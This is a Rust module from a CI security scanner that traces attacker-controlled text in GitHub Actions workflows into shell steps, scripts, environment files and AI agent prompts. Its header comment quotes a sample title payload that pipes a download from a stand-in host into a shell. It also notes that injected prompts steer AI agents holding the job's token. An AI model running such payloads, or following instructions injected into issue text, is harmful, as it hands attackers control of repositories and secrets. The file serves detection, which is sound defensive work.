//! Expression injection: attacker-controlled text pasted into something that executes it.
//!
//! GitHub expands `${{ ... }}` before the shell (or the JavaScript of github-script, or an AI
//! agent's prompt) sees it, so a title like `"; curl evil | sh #` becomes code. Passing the same
//! value through an `env:` variable is safe: the shell reads a variable, not code. Taint also
//! travels: a step that writes attacker text to `$GITHUB_OUTPUT` makes its outputs tainted, a
//! job output built from them taints `needs.<job>.outputs`, and writing it to `$GITHUB_ENV` or
//! `$GITHUB_PATH` changes what every later step runs.

use std::collections::BTreeSet;

use super::expressions::{attacker_field, expressions, references};
use crate::import::tree::Node;
use crate::source::Location;

/// Actions that hand an input to an AI agent acting with the job's token: an injected prompt
/// steers the agent.
const AGENT_ACTIONS: [&str; 6] = [
    "anthropics/claude-code-action",
    "anthropics/claude-code-base-action",
    "openai/codex-action",
    "google-github-actions/run-gemini-cli",
    "actions/ai-inference",
    "warpdotdev/warp-agent-action",
];

/// Inputs that actions commonly execute as a script.
const EXEC_INPUTS: [&str; 5] = ["script", "run", "command", "commands", "shell-script"];

/// Actions whose outputs are the pull request's head branch (a name the author chose).
const HEAD_REF_ACTIONS: [&str; 2] = [
    "xt0rted/pull-request-comment-branch",
    "gotson/pull-request-comment-branch",
];

/// One attacker-controlled value reaching a sink.
#[derive(Clone, Debug)]
pub(super) struct Injection {
    pub(super) step: String,
    pub(super) location: Option<Location>,
    /// What executes it: `run`, `github-script`, `agent prompt (<action>)`, `$GITHUB_ENV`, ...
    pub(super) sink: String,
    /// The expression or variable that carries the text.
    pub(super) value: String,
    /// `high` for event text itself, `medium` for a value derived from it through outputs.
    pub(super) confidence: &'static str,
}

/// What a job's steps do with attacker-controlled text.
#[derive(Default, Debug)]
pub(super) struct JobTaint {
    pub(super) injections: Vec<Injection>,
    /// Job outputs (`needs.<job>.outputs.<name>`) that carry attacker text.
    pub(super) outputs: BTreeSet<String>,
}

/// Whether an expression carries attacker text, and how directly.
fn tainted(
    expr: &str,
    steps: &BTreeSet<String>,
    env: &BTreeSet<String>,
    needs: &BTreeSet<String>,
) -> Option<&'static str> {
    let mut found = None;
    for r in references(expr) {
        if attacker_field(&r) {
            return Some("high");
        }
        let step = r.strip_prefix("steps.").and_then(|s| s.split('.').next());
        if found.is_none() && step.is_some_and(|id| steps.contains(&format!("?{id}"))) {
            // Outputs of an action that was given attacker text: what it outputs is a guess.
            found = Some("low");
        }
        let derived = step.is_some_and(|id| steps.contains(id))
            || r.strip_prefix("env.").is_some_and(|n| env.contains(n))
            || r.strip_prefix("needs.").is_some_and(|rest| {
                needs
                    .iter()
                    .any(|n| rest == n || rest.starts_with(&format!("{n}.")))
            });
        if derived {
            found = Some("medium");
        }
    }
    found
}

/// Whether a value can hold a line break: bodies, comments and commit messages can; titles
/// and branch names cannot. A derived value is not known, so it can (fail closed).
fn multiline(expr: &str) -> bool {
    references(expr).iter().any(|r| {
        !attacker_field(r)
            || r == "github.event"
            || r.contains("body")
            || r.contains("message")
            || r.contains("commits")
            || r.contains("head_commit")
            || r.contains("changes")
    })
}

fn env_names(
    node: Option<&Node>,
    out: &mut BTreeSet<String>,
    lines: &mut BTreeSet<String>,
    steps: &BTreeSet<String>,
    needs: &BTreeSet<String>,
) {
    for e in node.map(Node::entries).unwrap_or_default() {
        let v = e.value.scalar().unwrap_or_default();
        let hits: Vec<&str> = expressions(&v)
            .into_iter()
            .filter(|x| tainted(x, steps, &BTreeSet::new(), needs).is_some())
            .collect();
        if !hits.is_empty() {
            out.insert(e.key.clone());
            if hits.iter().any(|x| multiline(x)) {
                lines.insert(e.key.clone());
            }
        }
    }
}

/// Whether a shell script reads one of the variables (`$NAME`, `${NAME}`, `%NAME%`, `$env:NAME`).
fn reads_var(run: &str, names: &BTreeSet<String>) -> Option<String> {
    names
        .iter()
        .find(|n| {
            run.contains(&format!("${n}"))
                || run.contains(&format!("${{{n}}}"))
                || run.contains(&format!("$env:{n}"))
                || run.contains(&format!("%{n}%"))
        })
        .cloned()
}

/// Follows attacker text through one job's steps. `needs` holds the tainted outputs of other
/// jobs, as `<job>.outputs.<name>`.
pub(super) fn analyse(
    workflow_env: Option<&Node>,
    job: &Node,
    needs: &BTreeSet<String>,
) -> JobTaint {
    let mut out = JobTaint::default();
    let mut steps_tainted: BTreeSet<String> = BTreeSet::new();
    let mut base_env = BTreeSet::new();
    let mut base_lines = BTreeSet::new();
    env_names(
        workflow_env,
        &mut base_env,
        &mut base_lines,
        &steps_tainted,
        needs,
    );
    env_names(
        job.get("env"),
        &mut base_env,
        &mut base_lines,
        &steps_tainted,
        needs,
    );
    // Variables a step wrote to $GITHUB_ENV from attacker text, seen by every later step.
    let mut exported: BTreeSet<String> = BTreeSet::new();
    for (i, step) in job
        .get("steps")
        .map(Node::items)
        .unwrap_or_default()
        .iter()
        .enumerate()
    {
        let id = step.get("id").and_then(Node::scalar);
        let label = id.clone().unwrap_or_else(|| format!("steps[{i}]"));
        let mut env = base_env.clone();
        let mut lines = base_lines.clone();
        env.extend(exported.iter().cloned());
        lines.extend(exported.iter().cloned());
        env_names(step.get("env"), &mut env, &mut lines, &steps_tainted, needs);
        let hit = |sink: &str, value: &str, confidence: &'static str, out: &mut JobTaint| {
            out.injections.push(Injection {
                step: label.clone(),
                location: step.loc,
                sink: sink.to_owned(),
                value: value.to_owned(),
                confidence,
            });
        };
        let mut taints_outputs = false;
        let mut guessed = false;
        if let Some(run) = step.get("run").and_then(Node::scalar) {
            let mut direct = false;
            for e in expressions(&run) {
                if let Some(c) = tainted(e, &steps_tainted, &env, needs) {
                    hit("run", &format!("${{{{ {e} }}}}"), c, &mut out);
                    direct = true;
                }
            }
            let via_var = reads_var(&run, &env);
            if run.contains("GITHUB_OUTPUT") && (direct || via_var.is_some()) {
                taints_outputs = true;
            }
            // A line break in a value written to $GITHUB_ENV starts a new variable of the
            // attacker's choosing (LD_PRELOAD, BASH_ENV, ...); a path entry needs none.
            let via_lines = reads_var(&run, &lines);
            for file in ["GITHUB_ENV", "GITHUB_PATH"] {
                let carrier = if file == "GITHUB_ENV" {
                    &via_lines
                } else {
                    &via_var
                };
                if run.contains(file)
                    && let Some(v) = carrier
                {
                    hit(&format!("${file}"), &format!("${v}"), "medium", &mut out);
                    if file == "GITHUB_ENV" {
                        // What it exports is unknown by name; every later reader of the
                        // variables it wrote is tainted, approximated by the variable's name.
                        exported.insert(v.clone());
                    }
                }
            }
        }
        if let Some(uses) = step.get("uses").and_then(Node::as_str) {
            let slug = uses.split('@').next().unwrap_or(uses).to_ascii_lowercase();
            let with = step.get("with");
            for e in with.map(Node::entries).unwrap_or_default() {
                let v = e.value.scalar().unwrap_or_default();
                for x in expressions(&v) {
                    let Some(c) = tainted(x, &steps_tainted, &env, needs) else {
                        continue;
                    };
                    let value = format!("${{{{ {x} }}}}");
                    if slug == "actions/github-script" && e.key == "script" {
                        hit("github-script", &value, c, &mut out);
                    } else if AGENT_ACTIONS.iter().any(|a| slug.starts_with(a)) {
                        hit(
                            &format!("agent input `{}` of {slug}", e.key),
                            &value,
                            c,
                            &mut out,
                        );
                    } else if EXEC_INPUTS.contains(&e.key.as_str()) {
                        hit(&format!("input `{}` of {slug}", e.key), &value, c, &mut out);
                    }
                    // Whatever the action does with it, its outputs may carry it: known when
                    // it executes it, a guess otherwise.
                    if slug == "actions/github-script" || EXEC_INPUTS.contains(&e.key.as_str()) {
                        taints_outputs = true;
                    } else {
                        guessed = true;
                    }
                }
            }
            if HEAD_REF_ACTIONS.iter().any(|a| slug == *a) {
                taints_outputs = true;
            }
            if slug == "actions/github-script"
                && let Some(script) = with.and_then(|w| w.get("script")).and_then(Node::scalar)
                && script.contains("context.payload")
                && (script.contains(".title")
                    || script.contains(".body")
                    || script.contains("head.ref"))
                && (script.contains("setOutput") || script.contains("return"))
            {
                taints_outputs = true;
            }
        }
        if let Some(id) = id {
            if taints_outputs {
                steps_tainted.insert(id);
            } else if guessed {
                steps_tainted.insert(format!("?{id}"));
            }
        }
    }
    for e in job.get("outputs").map(Node::entries).unwrap_or_default() {
        let v = e.value.scalar().unwrap_or_default();
        if expressions(&v)
            .iter()
            .any(|x| tainted(x, &steps_tainted, &BTreeSet::new(), needs).is_some())
        {
            out.outputs.insert(format!("outputs.{}", e.key));
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn job(yaml: &str) -> Result<Node, Box<dyn std::error::Error>> {
        let docs = crate::import::tree::parse(yaml).map_err(|e| format!("{e:?}"))?;
        docs.into_iter().next().ok_or_else(|| "empty".into())
    }

    #[test]
    fn event_text_in_a_shell_is_injected_and_through_env_it_is_not()
    -> Result<(), Box<dyn std::error::Error>> {
        let bad = job("steps:\n  - run: echo \"${{ github.event.issue.title }}\"\n")?;
        let t = analyse(None, &bad, &BTreeSet::new());
        assert_eq!(t.injections.len(), 1);
        assert_eq!(t.injections[0].sink, "run");
        let good = job(
            "steps:\n  - run: echo \"$TITLE\"\n    env: {TITLE: '${{ github.event.issue.title }}'}\n",
        )?;
        assert!(analyse(None, &good, &BTreeSet::new()).injections.is_empty());
        Ok(())
    }

    #[test]
    fn taint_travels_through_outputs_env_files_and_agent_prompts()
    -> Result<(), Box<dyn std::error::Error>> {
        let flow = job(concat!(
            "outputs: {branch: '${{ steps.b.outputs.name }}'}\n",
            "steps:\n",
            "  - id: b\n    run: echo \"name=$REF\" >> $GITHUB_OUTPUT\n    env: {REF: '${{ github.head_ref }}'}\n",
            "  - run: echo ${{ steps.b.outputs.name }}\n",
            "  - run: echo \"X=$MSG\" >> $GITHUB_ENV\n    env: {MSG: '${{ github.event.head_commit.message }}'}\n",
            "  - run: echo \"T=$T\" >> $GITHUB_ENV\n    env: {T: '${{ github.event.issue.title }}'}\n",
            "  - uses: anthropics/claude-code-action@v1\n    with: {prompt: 'Triage ${{ github.event.issue.body }}'}\n",
        ))?;
        let t = analyse(None, &flow, &BTreeSet::new());
        let sinks: Vec<&str> = t.injections.iter().map(|i| i.sink.as_str()).collect();
        assert_eq!(
            sinks,
            vec![
                "run",
                "$GITHUB_ENV",
                "agent input `prompt` of anthropics/claude-code-action"
            ]
        );
        assert!(t.outputs.contains("outputs.branch"));
        let guess = job(concat!(
            "steps:\n",
            "  - id: find\n    uses: peter-evans/find-comment@v3\n    with: {body-includes: '${{ github.event.comment.body }}'}\n",
            "  - run: echo ${{ steps.find.outputs.comment-id }}\n",
        ))?;
        let g = analyse(None, &guess, &BTreeSet::new());
        assert_eq!(g.injections.len(), 1);
        assert_eq!(g.injections[0].confidence, "low");
        let downstream = job("steps:\n  - run: echo ${{ needs.a.outputs.branch }}\n")?;
        let needs: BTreeSet<String> = ["a.outputs.branch".to_owned()].into();
        assert_eq!(analyse(None, &downstream, &needs).injections.len(), 1);
        assert!(
            analyse(None, &downstream, &BTreeSet::new())
                .injections
                .is_empty()
        );
        Ok(())
    }
}
